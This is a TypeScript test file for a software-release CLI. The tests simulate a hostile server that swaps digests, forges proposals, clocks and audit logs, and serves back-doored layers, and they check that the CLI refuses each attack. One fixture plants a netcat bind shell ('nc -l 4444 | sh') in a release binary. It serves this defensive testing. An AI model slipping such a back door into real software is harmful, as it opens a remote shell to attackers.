import assert from 'node:assert/strict'
import { hash, randomBytes } from 'node:crypto'
import { chmod, mkdir, readdir, readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { buffer } from 'node:stream/consumers'
import { test } from 'node:test'
import { packBundle } from '@seaworthy/oci/bundle/pack'
import type { ContentTarget } from '@seaworthy/oci/content'
import { craftLayer, craftRelease } from '@seaworthy/oci/crafted-release'
import { digestOf } from '@seaworthy/oci/digests'
import { httpsTransport } from '@seaworthy/oci/transport'
import { utf8Decode } from '@seaworthy/std/bytes'
import type { Transport } from '@seaworthy/std/http'
import { readBody } from '@seaworthy/std/http'
import { dayMs, ManualClock } from '@seaworthy/std/time'
import { createCliUser } from './testing/cli-user.ts'
import type { CliUser } from './testing/cli-user.ts'
import type { Fake, Lie } from './testing/lying-server.ts'
import { bodyOf, lyingTransport } from './testing/lying-server.ts'
import { startServer } from './testing/server.ts'

/**
 * What makes a careless reader believe that it has read a layer of another digest: the decoder has
 * all that it wants with the first piece.
 */
function lure(layer: Uint8Array, size: number) {
  const first = Buffer.concat([layer, Buffer.from('x')])
  assert.ok(first.length < size)
  return { bytes: [first, Buffer.alloc(size - first.length)], type: 'application/octet-stream' }
}

test('T10 a server that was taken over gets no signature for what it swapped, and no belief in what it did not publish', async (t) => {
  const server = await startServer(t)
  let lie: Lie | undefined
  let fake: Fake | undefined
  const clock = new ManualClock(new Date())
  const user = await createCliUser(t, 'user', {
    createTransport: lyingTransport(
      () => lie,
      () => fake,
    ),
    // Waiting takes no time here, because the server will not change its mind.
    sleep: async (ms) => clock.advance(ms),
    clock,
  })
  await user.ok('login', server.url, '--pin', server.pin, '--token', server.token)
  for (const name of ['a', 'b']) await user.ok('key', 'create', user.file(name))
  const both = ['--sign-with', user.file('a'), '--sign-with', user.file('b')]
  await user.ok(
    'trust',
    'init',
    '--root-key',
    user.file('a'),
    '--root-key',
    user.file('b'),
    '--threshold',
    '2',
  )
  await user.ok('product', 'create', 'web', '--kind', 'bundle', ...both)
  const channelKeys = ['--key', user.file('a.pub'), '--key', user.file('b.pub'), '--threshold', '2']
  await user.ok('channel', 'create', 'web', 'stable', ...channelKeys, ...both)
  for (const version of ['1', '2']) {
    await mkdir(user.file(`app-${version}/bin`), { recursive: true })
    await writeFile(user.file(`app-${version}/bin/app`), `#!/bin/sh\n# ${version}\n`)
    if (version === '1') await writeFile(user.file('app-1/noise'), randomBytes(1000))
    await chmod(user.file(`app-${version}/bin/app`), 0o755)
    await user.ok(
      'release',
      'create',
      'web',
      version,
      '--platform',
      'linux/amd64',
      '--from',
      user.file(`app-${version}`),
      '--no-start',
    )
  }
  const digests = Object.fromEntries(
    (await user.json<{ version: string; digest: string }[]>('release', 'list', 'web')).map((r) => [
      r.version,
      r.digest,
    ]),
  )
  const open = await user.json<{ id: string }>(
    'publish',
    'web',
    '1',
    '--channel',
    'stable',
    '--sign-with',
    user.file('a'),
  )
  const sign = ['proposal', 'sign', open.id, '--key', user.file('b'), '--no-apply'] as const

  // Another release under the name of the one that is being published.
  lie = (request, text) =>
    request.url.endsWith('/products/web/releases/2')
      ? text.replaceAll(digests['2']!, digests['1']!)
      : undefined
  assert.match(
    await user.fails(3, 'publish', 'web', '2', '--channel', 'stable', ...both),
    /the server offers web 1 as web 2/,
  )

  // Content that was never looked at, in a proposal that somebody else signed already.
  const swapped = 'f'.repeat(64)
  const shownAt = `/v1/proposals/${open.id}`
  lie = (request, text) =>
    request.url.endsWith(shownAt)
      ? text.replaceAll(digests['1']!.slice('sha256:'.length), swapped)
      : undefined
  assert.match(await user.fails(5, ...sign), /\(content_missing\)/)
  lie = (request, text) =>
    request.url.endsWith(shownAt) ? text.replaceAll('"counter":1', '"counter":0') : undefined
  assert.match(await user.fails(3, ...sign), /\(proposal_(?:refused|malformed)\)/)
  lie = (request, text) =>
    request.url.endsWith(shownAt) ? text.replaceAll('"version":2', '"version":9') : undefined
  assert.match(await user.fails(3, ...sign), /version 9 where 2 must follow/)
  // A proposal of another kind under the same id.
  lie = (request, text) =>
    request.url.endsWith(shownAt) ? text.replaceAll('"web.stable"', '"web"') : undefined
  assert.match(await user.fails(3, ...sign), /\(proposal_(?:refused|outdated|malformed)\)/)

  // "It is published" is believed only when the signed metadata is there.
  lie = undefined
  await user.ok(...sign)
  const [view] = await user.json<{ id: string; state: string }[]>(
    'proposal',
    'list',
    '--state',
    'open',
  )
  assert.equal(view?.id, open.id)
  fake = (request) =>
    request.url.endsWith('/apply') ? JSON.stringify({ ...view, state: 'applied' }) : undefined
  assert.match(
    await user.fails(3, 'proposal', 'apply', open.id),
    /the server says it published web\.stable, but does not serve it/,
  )
  fake = undefined
  assert.match(await user.ok('proposal', 'apply', open.id), /Published web 1 on stable/)

  // T11 A back-doored layer beside the honest list: a server that lets it in gets nobody to sign
  // it.
  const crafted = await craftLyingRelease('2')
  lie = (request, text) =>
    request.url.endsWith('/products/web/releases/2')
      ? text.replaceAll(digests['2']!, crafted.digest)
      : undefined
  fake = (request) => crafted.content.get(request.url.split('/').at(-1)!)
  const refusal =
    /the file list of linux\/amd64 is not what its layer holds.*\(file_list_mismatch\)/
  assert.match(await user.fails(3, 'publish', 'web', '2', '--channel', 'stable', ...both), refusal)
  assert.match(await user.fails(3, 'release', 'diff', 'web', '1', '2'), refusal)

  // T11 attack: the honest layer, a byte behind it and anything up to the length, in the place of
  // the back-doored one.
  fake = (request) => {
    const name = request.url.split('/').at(-1)!
    const { layer, honest } = crafted
    return name === layer.digest ? lure(honest, layer.size) : crafted.content.get(name)
  }
  const otherBytes = /the bytes do not have the announced digest.*\(wrong_hash\)/
  assert.match(
    await user.fails(3, 'publish', 'web', '2', '--channel', 'stable', ...both),
    otherBytes,
  )
  assert.match(await user.fails(3, 'release', 'diff', 'web', '1', '2'), otherBytes)

  // T11 attack: the same in the place of the release before, so that nothing seems to change.
  lie = undefined
  const [before, after] = [await pack(user.file('app-1')), await pack(user.file('app-2'))]
  fake = (request) =>
    request.url.endsWith(before.digest) ? lure(after.bytes, before.size) : undefined
  assert.match(
    await user.fails(3, '--yes', 'publish', 'web', '2', '--channel', 'stable', ...both),
    /NOT CHECKED: linux\/amd64: what it is compared with could not be computed: .* do not have the announced digest/,
  )
  const shown = await user.ok('release', 'diff', 'web', '1', '2')
  assert.match(shown, /! NOT CHECKED .*do not have the announced digest/)
  assert.match(shown, /linux\/amd64: 2 added, 0 removed, 0 changed/)
  fake = undefined
  const waiting = await user.json<unknown[]>('proposal', 'list', '--state', 'open')
  assert.deepEqual(waiting, [])

  await t.test(
    'fault: a clock that is days off is looked at before the server is blamed',
    async () => {
      clock.advance(3 * dayMs)
      assert.match(
        await user.fails(3, 'publish', 'web', '2', '--channel', 'stable', ...both),
        /has expired at [^]*\nLook at the clock of this machine first\. If it is right, the server is down/,
      )
    },
  )
})

/**
 * What a cycle with a forged time leaves behind: the floor just before root expires, vouched for by
 * the keys that count now.
 */
async function poisonClock(user: CliUser): Promise<void> {
  const servers = user.file('config/servers')
  for (const name of await readdir(servers)) {
    for (const slot of ['a', 'b']) {
      const path = join(servers, name, 'trust', `state-${slot}`)
      const [body = ''] = (await readFile(path, 'utf8').catch(() => '')).split('\n')
      if (body === '') continue
      const verifiedAt = `${new Date(Date.now() + 364 * dayMs).toISOString().slice(0, 19)}Z`
      const poisoned = JSON.stringify({ ...(JSON.parse(body) as object), verifiedAt })
      const digest = hash('sha256', poisoned, 'hex')
      await writeFile(path, `${poisoned}\n${poisoned.length} sha256:${digest}\n`)
    }
  }
}

test('T7 T6 forged clock: owners whose command line can verify the roots alone replace online keys, with signatures made elsewhere, and are healed by it', async (t) => {
  const server = await startServer(t)
  let isCut = false
  const user = await createCliUser(t, 'user', {
    createTransport: (options) => {
      const { transport, close } = httpsTransport({ ...options, idleTimeoutMs: 120_000 })
      const cutting: Transport = (request) =>
        isCut && request.url.endsWith('/tuf/timestamp.json')
          ? Promise.resolve({ status: 404, headers: {}, body: bodyOf('') })
          : transport(request)
      return { transport: cutting, close }
    },
  })
  await user.ok('login', server.url, '--pin', server.pin, '--token', server.token)
  for (const name of ['a', 'b']) await user.ok('key', 'create', user.file(name))
  const rootKeys = ['--root-key', user.file('a'), '--root-key', user.file('b')]
  await user.ok('trust', 'init', ...rootKeys, '--threshold', '2')
  await user.ok('trust', 'status')

  await poisonClock(user)
  assert.match(
    await user.fails(3, 'trust', 'status'),
    /has expired at .*trust rotate timestamp --new-online-key/s,
  )
  // A user who logs in anew has the same state, until a new root voids the key.
  await user.ok('login', server.url, '--pin', server.pin, '--token', server.token)
  await user.fails(3, 'trust', 'status')

  const proposed = await user.json<{ id: string }>(
    'trust',
    'rotate',
    'timestamp',
    '--new-online-key',
  )
  const [file, signatures] = [user.file('proposal.json'), user.file('proposal.signatures')]
  await user.ok('proposal', 'export', proposed.id, '-o', file)
  const signing = ['--key', user.file('a'), '--key', user.file('b'), '-o', signatures]
  await user.ok('proposal', 'sign', file, ...signing)
  assert.match(await user.ok('proposal', 'import', signatures), /Published/)
  await user.ok('trust', 'status')

  // The server holds back everything but the roots.
  isCut = true
  await user.fails(3, 'trust', 'status')
  const both = ['--sign-with', user.file('a'), '--sign-with', user.file('b')]
  const { exitCode, out, err } = await user.run(
    ...['trust', 'rotate', 'snapshot', '--new-online-key', ...both],
  )
  assert.equal(exitCode, 0, err)
  assert.match(err, /WARNING: .*cannot be verified \(metadata_missing.*roots can/s)
  assert.match(out, /Published/)
  isCut = false
  await user.ok('trust', 'status')
})

test('T6 T9 forged log: a log that contradicts what was seen for ever keeps owners from everything but a new root, which ends stolen keys', async (t) => {
  const server = await startServer(t)
  /**
   * The log that the command line is shown from now on, shorter than one that it was shown before.
   */
  let older: Uint8Array | undefined
  const seen: Uint8Array[] = []
  const user = await createCliUser(t, 'user', {
    createTransport: (options) => {
      const { transport, close } = httpsTransport({ ...options, idleTimeoutMs: 120_000 })
      const cutting: Transport = async (request) => {
        if (!request.url.endsWith('/log/checkpoint')) return transport(request)
        if (older !== undefined) {
          return { status: older.length === 0 ? 404 : 200, headers: {}, body: bodyOf(older) }
        }
        const response = await transport(request)
        const bytes = await readBody(response, 1_000_000)
        seen.push(bytes)
        return { ...response, body: bodyOf(bytes) }
      }
      return { transport: cutting, close }
    },
  })
  await user.ok('login', server.url, '--pin', server.pin, '--token', server.token)
  for (const name of ['a', 'b']) await user.ok('key', 'create', user.file(name))
  const rootKeys = ['--root-key', user.file('a'), '--root-key', user.file('b')]
  await user.ok('trust', 'init', ...rootKeys, '--threshold', '2')
  await user.ok('trust', 'status')
  older = seen[0]!

  assert.match(await user.fails(3, 'trust', 'status'), /\(log_truncated\)/)
  const both = ['--sign-with', user.file('a'), '--sign-with', user.file('b')]
  const rotate = ['trust', 'rotate', 'timestamp', '--new-online-key'] as const
  const { exitCode, out, err } = await user.run(...rotate, ...both)
  assert.equal(exitCode, 0, err)
  assert.match(err, /WARNING: the audit log of this server is NOT BELIEVED/)
  assert.match(out, /Published/)

  // with signatures that are made elsewhere, too
  const proposed = await user.json<{ id: string }>(...rotate)
  const [file, signatures] = [user.file('proposal.json'), user.file('proposal.signatures')]
  await user.ok('proposal', 'export', proposed.id, '-o', file)
  const signing = ['--key', user.file('a'), '--key', user.file('b'), '-o', signatures]
  await user.ok('proposal', 'sign', file, ...signing)
  assert.match(await user.ok('proposal', 'import', signatures), /Published/)

  // Nothing else goes on.
  await user.fails(3, 'trust', 'renew', 'targets', ...both)
  await user.fails(3, 'trust', 'rotate', 'targets', '--threshold', '1', ...both)
  await user.fails(3, 'product', 'create', 'web', '--kind', 'bundle', ...both)
  older = undefined
  const waiting = await user.json<{ id: string }>('trust', 'renew', 'targets')
  older = seen[0]!
  for (const command of [
    ['show', waiting.id],
    ['sign', waiting.id, '--key', user.file('a')],
    ['export', waiting.id, '-o', user.file('other.json')],
    ['apply', waiting.id],
  ]) {
    assert.match(await user.fails(3, 'proposal', ...command), /\(log_truncated\)/)
  }

  // A person who has to find out why can sign in, see who they are, and read what is there.
  const login = ['login', server.url, '--pin', server.pin, '--token', server.token]
  for (const command of [login, ['whoami']]) {
    const { exitCode, err: warned } = await user.run(...command)
    assert.equal(exitCode, 0, warned)
    assert.match(warned, /WARNING: [^]*NOT BELIEVED[^]*log accept --reason/)
  }
  const contradiction = await user.run('log', 'verify')
  assert.equal(contradiction.exitCode, 3)
  assert.match(contradiction.out, /seen before: .*NOT there any more/)
  const evidence = /checkpoint, what contradicts it in (\S+checkpoint\.contradicting) /
  assert.deepEqual(
    new Uint8Array(await readFile(evidence.exec(contradiction.err)![1]!)),
    older,
    contradiction.err,
  )

  // The way out is deliberate, and keeps what it contradicts.
  await user.fails(2, 'log', 'accept')
  older = new Uint8Array()
  const gone = await user.fails(3, 'log', 'accept', '--reason', 'none is there')
  assert.match(gone, /no audit log that could be accepted\n.*--server NAME/)
  older = seen[0]!
  const reason = 'restored the backup of Monday'
  const accepted = await user.json<{ evidence: string }>(
    ...['log', 'accept', '--reason', reason, '--yes'],
  )
  const kept = JSON.parse(await readFile(accepted.evidence, 'utf8')) as Record<string, string>
  assert.equal(kept['reason'], reason)
  assert.equal(kept['accepted'], utf8Decode(older))
  assert.ok(seen.some((note) => utf8Decode(note) === kept['remembered']))
  await user.ok('trust', 'status')
  assert.match(await user.ok('log', 'accept', '--reason', 'again'), /nothing to accept/)
})

/** The layer that `release create` makes of a folder. */
async function pack(folder: string) {
  const pieces: Uint8Array[] = []
  const packed = await packBundle(folder, async (piece) => void pieces.push(piece))
  return { ...packed, bytes: Buffer.concat(pieces) }
}

/** A release whose list is that of other content, as a hostile registry serves it: by digest. */
async function craftLyingRelease(version: string) {
  const content = new Map<string, { bytes: Uint8Array; type: string }>()
  const file = { path: 'bin/app', isExecutable: true }
  const backDoor = `#!/bin/sh\nnc -l 4444 | sh & # ${hash('sha512', version, 'hex')}\n`
  const { layer } = craftLayer([{ ...file, content: backDoor }])
  const honest = craftLayer([{ ...file, content: `#!/bin/sh\n# ${version}\n` }])
  const target: ContentTarget = {
    hasBlob: async () => false,
    async putBlob({ digest }, open) {
      content.set(digest, { bytes: await buffer(open()), type: 'application/octet-stream' })
    },
    async putManifest({ digest, bytes, mediaType }) {
      content.set(digest, { bytes, type: mediaType })
    },
  }
  const bundles = [{ platform: 'linux/amd64', layer, listed: honest.files }]
  const { descriptor } = await craftRelease(target, { product: 'web', version, bundles })
  const lied = { digest: digestOf(layer), size: layer.length }
  return { digest: descriptor.digest, content, layer: lied, honest: honest.layer }
}
